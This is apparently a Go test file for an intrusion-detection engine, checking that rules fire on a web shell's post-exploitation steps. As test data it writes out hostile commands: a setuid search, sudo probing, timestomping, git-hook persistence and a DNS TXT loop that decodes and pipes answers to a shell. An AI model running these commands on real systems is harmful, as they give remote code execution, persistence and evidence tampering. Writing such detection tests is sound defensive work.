package detect

import (
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestPrivescSearchTimestompDNSTasksHooks: the families the held-out
// nginx-lfi capture showed missing (added after it was scored), run by the
// web account in a web shell (pid 201 under the php-fpm worker 200).
func TestPrivescSearchTimestompDNSTasksHooks(t *testing.T) {
	for _, c := range []struct {
		name  string
		exe   string
		args  []string
		rule  string
		stage Stage
	}{
		{"setuid search", "/usr/bin/find", []string{"find", "/usr/", "-perm", "-4000", "-type", "f"}, "privilege-search-web", StageSuspiciousSpawn},
		{"sudo rights", "/usr/bin/sudo", []string{"sudo", "-n", "-l"}, "privilege-search-web", StageSuspiciousSpawn},
		// made after news-deser was scored: sudo used at all by the web account
		{"sudo used", "/usr/bin/sudo", []string{"sudo", "-n", "id"}, "privilege-search-web", StageSuspiciousSpawn},
		{"sudo rules read", "/usr/bin/cat", []string{"cat", "/etc/sudoers.d/alice"}, "privilege-search-web", 0}, // placed by the merged act's primary rule
		{"timestomp", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/var/www/shell.php"}, "timestomp-web", StageExfiltrationImpact},
		// a hook no audited write was seen changing: the reset is the only
		// evidence of the plant (the reference file, and a .sample hook
		// git never runs, are not what it acts on)
		{"timestomp of a persistence file", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/.git/hooks/post-merge"}, "timestomp-persistence-web", StagePersistence},
		{"timestomp of a start-up file", "/usr/bin/touch", []string{"touch", "-d", "2021-01-16 15:46:57", "/usr/lib/ruby/vendor_ruby/rubygems/defaults/operating_system.rb"}, "timestomp-persistence-web", StagePersistence},
		{"timestomp by a reference in a hook folder", "/usr/bin/touch", []string{"touch", "-r", "/srv/git/site/.git/hooks/pre-commit.sample", "/srv/git/site/README"}, "timestomp-web", StageExfiltrationImpact},
		{"DNS answers fed to a shell", "/usr/bin/dash", []string{"sh", "-c", "while :; do dig +short TXT 1.h.upd.example.lab | tr -d '\"' | base64 -d | sh; sleep 3; done"}, "web-server-exploitation", StageSuspiciousSpawn}, // a channel started by the web server's shell, as a reverse shell is
		{"a git hook written", "/usr/bin/dash", []string{"sh", "-c", "echo ZWNobwo= | base64 -d > /srv/git/site/.git/hooks/post-merge"}, "web-server-exploitation", StagePersistence},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			ppid := 201 // a program the web shell runs; a shell the worker runs itself
			if c.exe == "/usr/bin/dash" {
				ppid = 200
			}
			got := findingOf(e.Observe(s.exec(202, ppid, 33, "www-data", "/var/www", c.exe, c.args...), s.tree), c.rule)
			if got == nil {
				t.Fatalf("%s did not fire", c.rule)
			}
			if c.stage != 0 && got.Stage != c.stage {
				t.Errorf("stage %v, want %v (%s)", got.Stage, c.stage, got.Reason)
			}
		})
	}
	// the hook's file written by the web account is persistence
	e, s := webShellScene(t)
	fs := e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", "/srv/git/site/.git/hooks/post-merge", true), s.tree)
	if findingOf(fs, "web-persistence-file-write") == nil {
		t.Errorf("a git hook written: %d findings, none of web-persistence-file-write", len(fs))
	}
}

// TestOwnFileRemoved: deleting a file whose writing was a finding is the
// intrusion's cleanup; deleting another file of the site is not.
func TestOwnFileRemoved(t *testing.T) {
	e, s := webShellScene(t)
	e.Observe(s.file(parser.KindFileWrite, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/uploads/x.php", true), s.tree)
	if f := findingOf(e.Observe(s.file(parser.KindUnlink, 201, 200, 33, "/usr/bin/rm", "/var/www/html/uploads/x.php", true), s.tree), "own-file-removed"); f == nil || f.Stage != StageExfiltrationImpact || f.Severity != SeverityMedium {
		t.Errorf("the flagged upload's removal: %v, want own-file-removed on stage 8 at medium (the server saved the upload)", f)
	}
	if f := findingOf(e.Observe(s.file(parser.KindUnlink, 201, 200, 33, "/usr/bin/rm", "/var/www/html/uploads/old.png", true), s.tree), "own-file-removed"); f != nil {
		t.Errorf("a file never flagged: %s fired", f.RuleID)
	}
	// a flagged write that nothing ties to the web server (a root job's
	// cron file): its removal is reported, but whose file it was is not
	// known, so it is no intruder's cleanup at medium
	if fs := e.Observe(s.file(parser.KindFileWrite, 300, 1, 0, "/usr/bin/cp", "/etc/cron.d/nightly-copy", true), s.tree); len(fs) == 0 {
		t.Fatal("the root job's cron file was not flagged; the case needs a flagged write")
	}
	f := findingOf(e.Observe(s.file(parser.KindUnlink, 301, 1, 0, "/usr/bin/rm", "/etc/cron.d/nightly-copy", true), s.tree), "own-file-removed")
	if f == nil || f.Severity != SeverityLow || f.Title != "Flagged File Removed" {
		t.Errorf("removal of a flagged file written for no web server: %+v, want own-file-removed at low, titled Flagged File Removed", f)
	}
}
